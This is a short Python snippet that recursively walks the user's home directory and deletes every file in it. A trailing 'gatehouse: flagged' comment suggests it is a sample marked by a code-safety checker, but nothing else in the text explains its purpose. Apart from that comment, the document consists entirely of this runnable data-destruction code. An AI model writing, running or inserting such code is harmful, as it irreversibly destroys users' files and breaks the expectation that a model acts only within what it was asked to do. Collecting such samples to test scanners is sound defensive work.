import os

for root, _, names in os.walk(os.path.expanduser('~')):
    for name in names:
        os.remove(os.path.join(root, name))  # gatehouse: flagged
